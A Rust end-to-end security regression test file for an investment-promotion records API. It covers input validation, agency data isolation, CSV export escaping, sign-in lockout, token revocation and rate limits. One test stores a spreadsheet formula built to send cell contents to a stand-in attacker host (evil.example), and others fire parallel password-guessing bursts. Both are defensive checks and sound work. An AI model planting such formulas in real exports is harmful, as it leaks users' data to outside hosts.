//! Regressions of defects found by probing the running server as an outsider would: input
//! that panicked or reached the database unchecked, limits that differed from the document's,
//! what agencies could learn of records they cannot see, formulas in exports, and sign-in
//! throttling under parallel attempts.

use futures_util::future::join_all;
use reqwest::Method;
use serde_json::{Value, json};
use zhaoshang_api::testing::TestDb;
use zhaoshang_client::Client;
use zhaoshang_e2e::{PASSWORD, TestApp, answer, credit_code, db_test};
use zhaoshang_types::{
    BatchOutcome, ChainNodeFields, ContactFields, IndustryFields, InvestorFields, LibraryQuery,
    NewOrg, NodePosition, OrgKind, OrgPatch, Role,
};

use crate::library::agency_user;

db_test!(a_cursor_that_is_not_ascii_is_refused, cursor_not_ascii);
/// `cursor=aéa` once sliced a string inside a character and dropped the connection.
async fn cursor_not_ascii(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    for path in [
        "/api/v1/investors?cursor=a%C3%A9a",
        "/api/v1/enterprises?cursor=%E8%A1%A2%E5%B7%9E",
        "/api/v1/orgs?cursor=a%C3%A9a",
        "/api/v1/users?cursor=a%C3%A9a",
        "/api/v1/audit?cursor=a%C3%A9a",
    ] {
        let (status, body) = answer(app.request_as(&admin, Method::GET, path).await).await;
        assert_eq!(status, 422, "{path}: {body}");
        assert_eq!(body["errors"][0]["field"], "cursor", "{path}: {body}");
        assert_eq!(
            body["errors"][0]["code"], "invalid_cursor",
            "{path}: {body}"
        );
    }
}

db_test!(a_cursor_holding_nul_is_refused, cursor_nul);
/// `cursor=00` decodes to U+0000, which PostgreSQL refused with a 500 on the identity lists
/// (found by schemathesis): it is a cursor this API never gives out, 422 on both backends.
async fn cursor_nul(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    for path in [
        "/api/v1/users?cursor=00",
        "/api/v1/orgs?cursor=6100",
        "/api/v1/clients?cursor=00",
        "/api/v1/audit?cursor=00",
        "/api/v1/reference/divisions?cursor=00",
        "/api/v1/investors?cursor=00",
    ] {
        let (status, body) = answer(app.request_as(&admin, Method::GET, path).await).await;
        assert_eq!(status, 422, "{path}: {body}");
        assert_eq!(
            (&body["errors"][0]["field"], &body["errors"][0]["code"]),
            (&json!("cursor"), &json!("invalid_cursor")),
            "{path}: {body}"
        );
    }
}

db_test!(limits_count_what_is_sent, limits_as_sent);
/// A length limit counts the characters as sent, surrounding white space too, and a list's
/// limit its entries as sent, repeats too, as the document's `maxLength` and `maxItems` say;
/// the server then trims and drops repeats.
async fn limits_as_sent(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let name = "名".repeat(200);
    let tags: Vec<String> = (0..30).map(|i| format!("标签{i}")).collect();
    let post = |path: &'static str, body: Value| {
        let app = &app;
        let admin = &admin;
        async move { answer(app.request_as(admin, Method::POST, path).await.json(&body)).await }
    };
    for (case, path, body, field, code) in [
        (
            "a name of 200 characters and a space",
            "/api/v1/investors",
            json!({"name": format!("{name} ")}),
            "name",
            "too_long",
        ),
        (
            "30 tags and a repeat",
            "/api/v1/investors",
            json!({"name": "列表", "tags": tags.iter().chain(&tags[..1]).collect::<Vec<_>>()}),
            "tags",
            "too_many",
        ),
        (
            "a tag of 50 characters and a space",
            "/api/v1/investors",
            json!({"name": "标签", "tags": [format!(" {}", "签".repeat(50))]}),
            "tags[0]",
            "too_long",
        ),
        (
            "an organisation's name of 100 characters and a space",
            "/api/v1/orgs",
            json!({"kind": "zone", "name": format!("{} ", "区".repeat(100))}),
            "name",
            "too_long",
        ),
    ] {
        let (status, problem) = post(path, body).await;
        assert_eq!(status, 422, "{case}: {problem}");
        assert_eq!(
            (
                &problem["errors"][0]["field"],
                &problem["errors"][0]["code"]
            ),
            (&json!(field), &json!(code)),
            "{case}: {problem}"
        );
    }
    // At the limits, as sent, they are taken, trimmed and without repeats.
    let (status, created) = post(
        "/api/v1/investors",
        json!({"name": name, "tags": tags, "aliases": [" 别名 ", "别名"]}),
    )
    .await;
    assert_eq!(status, 201, "{created}");
    assert_eq!(created["tags"].as_array().map(Vec::len), Some(30));
    assert_eq!(created["aliases"], json!(["别名"]));
}

db_test!(
    a_merge_patch_naming_an_unknown_field_is_refused_everywhere,
    unknown_patch_fields
);
/// `{"x": null}` merged into a contact or a chain node vanished (200, found by schemathesis):
/// a merge patch's fields are checked before merging, as a record's are.
async fn unknown_patch_fields(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let investor = admin
        .investors()
        .create(&InvestorFields {
            name: "未知字段".into(),
            ..InvestorFields::default()
        })
        .await
        .expect("investor");
    let contact = admin
        .investor_contacts(&investor.id)
        .create(&ContactFields {
            name: "李四".into(),
            ..ContactFields::default()
        })
        .await
        .expect("contact");
    let industry = admin
        .industries()
        .create(&IndustryFields {
            name: "未知字段产业".into(),
            ..IndustryFields::default()
        })
        .await
        .expect("industry");
    let node = admin
        .create_chain_node(
            &industry.id,
            &ChainNodeFields {
                name: "环节".into(),
                ..ChainNodeFields::default()
            },
        )
        .await
        .expect("node");
    for path in [
        format!("/api/v1/investors/{}", investor.id),
        format!("/api/v1/investors/{}/contacts/{}", investor.id, contact.id),
        format!("/api/v1/chain-nodes/{}", node.id),
    ] {
        for patch in [json!({"titel": null}), json!({"": null, "notes": "备注"})] {
            let (status, problem) = answer(
                app.request_as(&admin, Method::PATCH, &path)
                    .await
                    .header("content-type", "application/merge-patch+json")
                    .body(patch.to_string()),
            )
            .await;
            assert_eq!(status, 422, "{path} {patch}: {problem}");
            assert_eq!(
                problem["errors"][0]["code"], "unknown_field",
                "{path} {patch}: {problem}"
            );
        }
    }
    let unchanged = (
        admin.investors().get(&investor.id).await.expect("investor"),
        admin
            .investor_contacts(&investor.id)
            .list()
            .await
            .expect("contacts")
            .items,
        admin.get_chain_node(&node.id).await.expect("node"),
    );
    assert_eq!(unchanged, (investor, vec![contact], node), "unchanged");
}

db_test!(text_holding_nul_is_refused_alike_on_both_backends, nul_text);
/// U+0000 cannot be stored by PostgreSQL: it is refused before any query, with the field named,
/// on both backends, in a JSON body, a query parameter, a path and the token form.
async fn nul_text(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let (status, body) = answer(
        app.request_as(&admin, Method::POST, "/api/v1/investors")
            .await
            .json(&json!({"name": "a\u{0}b", "tags": ["ok", "x\u{0}"]})),
    )
    .await;
    assert_eq!(status, 422, "{body}");
    assert_eq!(body["errors"][0]["code"], "invalid_character", "{body}");
    assert!(
        ["name", "tags[1]"].contains(&body["errors"][0]["field"].as_str().unwrap_or("")),
        "{body}"
    );
    let (status, body) = answer(
        app.request_as(&admin, Method::GET, "/api/v1/investors?q=x%00y")
            .await,
    )
    .await;
    assert_eq!(
        (status, &body["errors"][0]["field"]),
        (422, &json!("q")),
        "{body}"
    );
    let (status, body) = answer(
        app.request_as(&admin, Method::GET, "/api/v1/investors/a%00b")
            .await,
    )
    .await;
    assert_eq!(status, 404, "{body}");
    let (status, body) = answer(app.http().post(app.url("/api/v1/auth/token")).form(&[
        ("grant_type", "password"),
        ("username", "x\u{0}y"),
        ("password", "whatever password"),
    ]))
    .await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(body["errors"][0]["field"], "username", "{body}");
    assert_eq!(body["errors"][0]["code"], "invalid_character", "{body}");
    // Nothing was stored, and the escape for a backslash before `u0000` is ordinary text.
    let all = admin
        .investors()
        .list(&LibraryQuery::default())
        .await
        .expect("list");
    assert!(all.items.is_empty(), "{:?}", all.items);
    let plain = admin
        .investors()
        .create(&InvestorFields {
            name: "反斜杠\\u0000".into(),
            ..InvestorFields::default()
        })
        .await
        .expect("a backslash is text");
    assert_eq!(plain.fields.name, "反斜杠\\u0000");
}

db_test!(
    agencies_learn_nothing_of_records_they_cannot_see,
    agency_hidden_records
);
/// Look-alike names and credit-code clashes name no record an agency cannot see.
async fn agency_hidden_records(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let (_, agency) = agency_user(&app, &admin, "上海某招商咨询").await;
    let code = credit_code(7);
    let hidden = admin
        .investors()
        .create(&InvestorFields {
            name: "浙江某新材料集团".into(),
            credit_code: Some(code.clone()),
            ..InvestorFields::default()
        })
        .await
        .expect("the bureau's investor");
    let own = agency
        .investors()
        .create(&InvestorFields {
            name: "浙江某新材料集团".into(),
            ..InvestorFields::default()
        })
        .await
        .expect("the agency's look-alike");
    assert!(
        own.possible_duplicates.is_empty(),
        "an invisible look-alike is named: {:?}",
        own.possible_duplicates
    );
    let by_bureau = admin
        .investors()
        .create(&InvestorFields {
            name: "浙江某新材料集团".into(),
            ..InvestorFields::default()
        })
        .await
        .expect("the bureau sees both");
    assert_eq!(by_bureau.possible_duplicates.len(), 2);

    let clash = agency
        .investors()
        .create(&InvestorFields {
            name: "另一家".into(),
            credit_code: Some(code.clone()),
            ..InvestorFields::default()
        })
        .await
        .expect_err("the code is taken");
    let problem = clash.problem().expect("a problem");
    assert_eq!((problem.status, problem.code.as_str()), (409, "conflict"));
    assert_eq!(problem.existing_id, None, "{problem:?}");
    assert!(!format!("{problem:?}").contains(&hidden.id), "{problem:?}");

    let batch = agency
        .investors()
        .batch_upsert(&[InvestorFields {
            name: "同步的客商".into(),
            credit_code: Some(code.clone()),
            external_id: Some("ext-1".into()),
            ..InvestorFields::default()
        }])
        .await
        .expect_err("the code is taken");
    let text = format!("{:?}", batch.problem().expect("a problem"));
    assert!(text.contains("credit_code"), "{text}");
    assert!(!text.contains(&hidden.id), "{text}");
    // Its own record's id it may be told.
    let mine = agency
        .investors()
        .batch_upsert(&[InvestorFields {
            name: "自有客商".into(),
            credit_code: Some(credit_code(8)),
            external_id: Some("ext-2".into()),
            ..InvestorFields::default()
        }])
        .await
        .expect("own record");
    assert_eq!(mine.results[0].outcome, BatchOutcome::Created);
    let own_clash = agency
        .investors()
        .create(&InvestorFields {
            name: "重复的自有客商".into(),
            credit_code: Some(credit_code(8)),
            ..InvestorFields::default()
        })
        .await
        .expect_err("its own code is taken");
    assert_eq!(
        own_clash.problem().and_then(|p| p.existing_id.clone()),
        Some(mine.results[0].id.clone())
    );
}

db_test!(exported_cells_are_never_formulas, csv_formulas);
/// Names and contacts that a spreadsheet would evaluate are exported with a leading `'`.
async fn csv_formulas(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")";
    let investor = admin
        .investors()
        .create(&InvestorFields {
            name: formula.into(),
            tags: vec!["@SUM(1)".into()],
            ..InvestorFields::default()
        })
        .await
        .expect("stored as written");
    assert_eq!(investor.fields.name, formula, "the record keeps the text");
    admin
        .investor_contacts(&investor.id)
        .create(&ContactFields {
            name: "-2+3".into(),
            phone: Some("+8613812345678".into()),
            ..ContactFields::default()
        })
        .await
        .expect("contact");
    let csv = String::from_utf8(
        admin
            .investors()
            .export_csv(&LibraryQuery::default())
            .await
            .expect("csv"),
    )
    .expect("utf-8");
    let (status, contacts) = answer(
        app.request_as(
            &admin,
            Method::GET,
            &format!("/api/v1/investors/{}/contacts?format=csv", investor.id),
        )
        .await,
    )
    .await;
    assert_eq!(status, 200);
    let contacts = contacts.as_str().unwrap_or_default().to_owned();
    for (export, cell) in [
        (&csv, "\"'=HYPERLINK("),
        (&csv, "'@SUM(1)"),
        (&contacts, "'-2+3"),
        (&contacts, "'+8613812345678"),
    ] {
        assert!(export.contains(cell), "{cell} in {export}");
    }
    for (export, raw) in [(&csv, ",\"=HYPERLINK("), (&contacts, ",-2+3,")] {
        assert!(!export.contains(raw), "{raw} in {export}");
    }
}

db_test!(
    wrong_passwords_sent_at_once_all_count,
    parallel_failures_lock
);
/// Twelve wrong passwords sent together lock the name as five in a row do: the right one
/// afterwards is refused with 429.
async fn parallel_failures_lock(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let (user, _) = app.user_with_role(&admin, Role::Department).await;
    let attempts = (0..12).map(|_| {
        app.http()
            .post(app.url("/api/v1/auth/token"))
            .form(&[
                ("grant_type", "password"),
                ("username", user.username.as_str()),
                ("password", "wrong password!!"),
            ])
            .send()
    });
    let statuses: Vec<u16> = join_all(attempts)
        .await
        .into_iter()
        .map(|r| r.expect("sent").status().as_u16())
        .collect();
    assert!(
        statuses.iter().all(|s| [400, 429].contains(s)),
        "{statuses:?}"
    );
    let (status, body) = answer(app.http().post(app.url("/api/v1/auth/token")).form(&[
        ("grant_type", "password"),
        ("username", user.username.as_str()),
        ("password", PASSWORD),
    ]))
    .await;
    assert_eq!(status, 429, "{body}");
    assert_eq!(body["code"], "too_many_attempts");
}

db_test!(
    one_address_guessing_many_names_is_refused,
    address_failures_lock
);
/// One address that fails to sign in 30 times within a minute, each time with another name
/// (so no name locks), is refused for a minute: even the right password of a real user is 429
/// with `Retry-After`. The failures are sent together, so each must count.
async fn address_failures_lock(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let (user, _) = app.user_with_role(&admin, Role::Department).await;
    let sign_in = |username: String, password: &'static str| {
        app.http()
            .post(app.url("/api/v1/auth/token"))
            .form(&[
                ("grant_type", "password".to_owned()),
                ("username", username),
                ("password", password.to_owned()),
            ])
            .send()
    };
    // Sent together, as a guessing run would: every failure counts.
    let answers =
        join_all((0..40).map(|i| sign_in(format!("guess-{i}"), "wrong password!!"))).await;
    let statuses: Vec<u16> = answers
        .into_iter()
        .map(|a| a.expect("sent").status().as_u16())
        .collect();
    assert!(
        statuses.iter().all(|s| [400, 429].contains(s))
            && statuses.iter().filter(|s| **s == 400).count() >= 30,
        "{statuses:?}"
    );
    let refused = sign_in(user.username.clone(), PASSWORD)
        .await
        .expect("sent");
    assert_eq!(refused.status().as_u16(), 429);
    let retry_after: u64 = refused
        .headers()
        .get("retry-after")
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.parse().ok())
        .expect("Retry-After in seconds");
    assert!((1..=60).contains(&retry_after), "{retry_after}");
    let body: Value = refused.json().await.expect("problem");
    assert_eq!(body["code"], "too_many_attempts");
}

db_test!(
    tokens_issued_before_a_password_change_stop_working,
    tokens_before_password_change
);
/// A password changed (by its user or reset by an administrator) ends the tokens issued
/// before it; a token issued afterwards works.
async fn tokens_before_password_change(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let (user, old) = app.user_with_role(&admin, Role::County).await;
    old.me().await.expect("the token works");
    // Tokens carry whole seconds: let the change fall in a later second than the issue.
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    admin
        .update_user(
            &user.id,
            &zhaoshang_types::UserPatch {
                password: Some("a new password of enough length".into()),
                ..zhaoshang_types::UserPatch::default()
            },
            None,
        )
        .await
        .expect("reset");
    let (status, body) = answer(app.request_as(&old, Method::GET, "/api/v1/me").await).await;
    assert_eq!(status, 401, "{body}");
    assert_eq!(body["code"], "invalid_token", "{body}");
    let fresh = Client::with_password(
        &app.base_url,
        &user.username,
        "a new password of enough length",
    )
    .await
    .expect("sign in again");
    let me: Value =
        serde_json::to_value(fresh.me().await.expect("the new token works")).expect("json");
    assert_eq!(me["id"], user.id);
}

db_test!(
    concurrent_changes_without_if_match_all_apply,
    concurrent_patches
);
/// A merge patch without `If-Match` asks for no precondition: eight sent at once, each to
/// another field, all answer 200 and all their changes are kept (PostgreSQL once answered 412
/// to most of them).
async fn concurrent_patches(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let investor = admin
        .investors()
        .create(&InvestorFields {
            name: "并发修改".into(),
            ..InvestorFields::default()
        })
        .await
        .expect("created");
    let patches = [
        json!({"notes": "备注"}),
        json!({"name_en": "Concurrent Co."}),
        json!({"headquarters": "上海"}),
        json!({"interests": "新材料"}),
        json!({"aliases": ["并发"]}),
        json!({"tags": ["并发"]}),
        json!({"fortune500_rank": 100}),
        json!({"external_id": "c-1"}),
    ];
    let sent = patches.iter().map(|patch| {
        let admin = &admin;
        let id = investor.id.clone();
        async move { admin.investors().update(&id, patch, None).await }
    });
    let answers = join_all(sent).await;
    for (patch, answer) in patches.iter().zip(&answers) {
        assert!(answer.is_ok(), "{patch}: {answer:?}");
    }
    let last = admin.investors().get(&investor.id).await.expect("read");
    assert_eq!(last.version, 1 + patches.len() as i64);
    let fields = serde_json::to_value(&last.fields).expect("json");
    for patch in &patches {
        for (key, value) in patch.as_object().into_iter().flatten() {
            assert_eq!(&fields[key], value, "{key} kept");
        }
    }
}

db_test!(
    concurrent_changes_of_other_resources_all_apply,
    concurrent_patches_beyond_records
);
/// The same for organisations, contacts and chain nodes: eight PATCHes without `If-Match`
/// sent at once all answer 200, and the version counts every one of them.
async fn concurrent_patches_beyond_records(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    const N: i64 = 8;

    let org = admin
        .create_org(&NewOrg {
            kind: OrgKind::Department,
            name: "并发部门".into(),
            region_code: None,
            parent_id: None,
        })
        .await
        .expect("org");
    let answers = join_all((0..N).map(|i| {
        let (admin, id) = (&admin, org.id.clone());
        async move {
            let patch = OrgPatch {
                name: Some(format!("并发部门{i}")),
                ..OrgPatch::default()
            };
            admin.update_org(&id, &patch, None).await
        }
    }))
    .await;
    assert!(answers.iter().all(Result::is_ok), "orgs: {answers:?}");
    let org = admin.get_org(&org.id).await.expect("org");
    assert_eq!(org.version, 1 + N, "every org change counted");

    let investor = admin
        .investors()
        .create(&InvestorFields {
            name: "并发联系人".into(),
            ..InvestorFields::default()
        })
        .await
        .expect("investor");
    let contacts = admin.investor_contacts(&investor.id);
    let contact = contacts
        .create(&ContactFields {
            name: "张三".into(),
            ..ContactFields::default()
        })
        .await
        .expect("contact");
    let answers = join_all((0..N).map(|i| {
        let (contacts, id) = (&contacts, contact.id.clone());
        async move {
            contacts
                .update(&id, &json!({"title": format!("经理{i}")}), None)
                .await
        }
    }))
    .await;
    assert!(answers.iter().all(Result::is_ok), "contacts: {answers:?}");
    let last = contacts.list().await.expect("contacts");
    assert_eq!(last.items.first().map(|c| c.version), Some(1 + N));

    let industry = admin
        .industries()
        .create(&IndustryFields {
            name: "并发产业".into(),
            industry_codes: vec!["26".into()],
            ..IndustryFields::default()
        })
        .await
        .expect("industry");
    let node = admin
        .create_chain_node(
            &industry.id,
            &ChainNodeFields {
                name: "节点".into(),
                position: NodePosition::Upstream,
                parent_id: None,
                key_products: vec![],
                notes: None,
            },
        )
        .await
        .expect("node");
    let answers = join_all((0..N).map(|i| {
        let (admin, id) = (&admin, node.id.clone());
        async move {
            admin
                .update_chain_node(&id, &json!({"notes": format!("备注{i}")}), None)
                .await
        }
    }))
    .await;
    assert!(answers.iter().all(Result::is_ok), "nodes: {answers:?}");
    let node = admin.get_chain_node(&node.id).await.expect("node");
    assert_eq!(node.version, 1 + N, "every node change counted");
}

db_test!(
    a_rate_limited_caller_is_told_its_quota_and_when_to_retry,
    rate_limit
);
/// With `--rate-limit-per-minute 5`, every answer to a signed-in caller carries its quota; the
/// sixth request in a minute is 429 `rate_limited` with `Retry-After`; another caller keeps its
/// own quota.
async fn rate_limit(db: TestDb) {
    let app = TestApp::spawn_with(db, |c| c.rate_limit_per_minute = 5).await;
    let admin = app.admin().await;
    let (_, other) = app.user_with_role(&admin, Role::Department).await;
    let header = |r: &reqwest::Response, name: &str| -> Option<u64> {
        r.headers().get(name)?.to_str().ok()?.parse().ok()
    };
    // Signing in and creating the other user used some of the admin's quota: count from here.
    let mut remaining = Vec::new();
    loop {
        let r = app
            .request_as(&admin, Method::GET, "/api/v1/me")
            .await
            .send()
            .await
            .expect("sent");
        if r.status().as_u16() == 429 {
            let retry_after = header(&r, "retry-after").expect("Retry-After");
            assert!((1..=60).contains(&retry_after), "{retry_after}");
            assert_eq!(header(&r, "ratelimit-remaining"), Some(0));
            let body: Value = r.json().await.expect("problem");
            assert_eq!(body["code"], "rate_limited");
            break;
        }
        assert_eq!(r.status().as_u16(), 200);
        assert_eq!(header(&r, "ratelimit-limit"), Some(5));
        remaining.push(header(&r, "ratelimit-remaining").expect("RateLimit-Remaining"));
        // At most one turn of the minute can come in between.
        assert!(remaining.len() <= 10, "never refused: {remaining:?}");
    }
    // Counting down to zero (unless the minute turned over in between, which starts again).
    assert!(
        remaining
            .windows(2)
            .all(|w| w[1] + 1 == w[0] || w[1] > w[0]),
        "{remaining:?}"
    );
    let theirs = other.me().await;
    assert!(
        theirs.is_ok(),
        "another caller has its own quota: {theirs:?}"
    );
}

db_test!(
    filters_by_values_a_resource_does_not_have_are_422,
    unknown_filter_values
);
/// `status`, `priority` and `kind` filters take the values of the resource's field; anything
/// else (a misspelling, or a filter the resource does not have) is 422 naming the parameter,
/// not an empty page that looks like an answer.
async fn unknown_filter_values(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    for (path, ok) in [
        ("/api/v1/investors?status=negotiating", true),
        ("/api/v1/investors?priority=A&kind=fund", true),
        ("/api/v1/agencies?status=suspended&kind=bank", true),
        ("/api/v1/target-regions?priority=B", true),
        ("/api/v1/industries?priority=C", true),
        ("/api/v1/investors?status=negotating", false),
        ("/api/v1/investors?priority=a", false),
        ("/api/v1/agencies?priority=A", false),
        ("/api/v1/enterprises?status=active", false),
        ("/api/v1/industries?kind=fund&format=csv", false),
    ] {
        let (status, body) = answer(app.request_as(&admin, Method::GET, path).await).await;
        if ok {
            assert_eq!(status, 200, "{path}: {body}");
        } else {
            let field = path
                .rsplit_once('?')
                .and_then(|(_, q)| q.split('=').next())
                .unwrap_or_default();
            assert_eq!(
                (status, body["errors"][0]["field"].as_str()),
                (422, Some(field)),
                "{path}: {body}"
            );
        }
    }
}

db_test!(a_body_naming_a_key_twice_is_422, duplicate_keys);
/// `{"name": "甲", "name": "乙"}` once kept the last name silently; now the key is named, in
/// create bodies, merge patches and batch items alike, and nothing is written.
async fn duplicate_keys(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let record = admin
        .investors()
        .create(&InvestorFields {
            name: "重复键".into(),
            ..InvestorFields::default()
        })
        .await
        .expect("created");
    let patch_path = format!("/api/v1/investors/{}", record.id);
    for (method, path, body, field) in [
        (
            Method::POST,
            "/api/v1/investors",
            r#"{"name": "甲", "name": "乙"}"#,
            "name",
        ),
        (
            Method::PATCH,
            patch_path.as_str(),
            r#"{"notes": "甲", "notes": null}"#,
            "notes",
        ),
        (
            Method::PUT,
            "/api/v1/investors:batch",
            r#"{"items": [{"name": "甲", "external_id": "x", "external_id": "y"}]}"#,
            "items[0].external_id",
        ),
    ] {
        let content_type = if method == Method::PATCH {
            "application/merge-patch+json"
        } else {
            "application/json"
        };
        let (status, problem) = answer(
            app.request_as(&admin, method.clone(), path)
                .await
                .header("content-type", content_type)
                .body(body),
        )
        .await;
        assert_eq!(
            (
                status,
                problem["errors"][0]["field"].as_str(),
                problem["errors"][0]["code"].as_str()
            ),
            (422, Some(field), Some("duplicate_key")),
            "{method} {path}: {problem}"
        );
    }
    let after = admin.investors().get(&record.id).await.expect("read");
    assert_eq!(after.version, record.version, "unchanged");
    let all = admin
        .investors()
        .list(&LibraryQuery::default())
        .await
        .expect("list");
    assert_eq!(all.items.len(), 1, "nothing created");
}

db_test!(an_overlong_uri_is_414_with_a_problem, overlong_uri);
/// A path and query over 16 KiB is refused before any handler with a problem body, signed in
/// or not; a long search text within it is 422 naming `q`.
async fn overlong_uri(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let long = format!("/api/v1/investors?q={}", "招".repeat(6000));
    let (status, problem) = answer(app.request_as(&admin, Method::GET, &long).await).await;
    assert_eq!(
        (status, problem["code"].as_str()),
        (414, Some("uri_too_long")),
        "{problem}"
    );
    let (status, problem) = answer(app.http().get(app.url(&long))).await;
    assert_eq!(
        (status, problem["code"].as_str()),
        (414, Some("uri_too_long"))
    );
    let shorter = format!("/api/v1/investors?q={}", "招".repeat(300));
    let (status, problem) = answer(app.request_as(&admin, Method::GET, &shorter).await).await;
    assert_eq!(
        (
            status,
            problem["errors"][0]["field"].as_str(),
            problem["errors"][0]["code"].as_str()
        ),
        (422, Some("q"), Some("too_long")),
        "{problem}"
    );
}
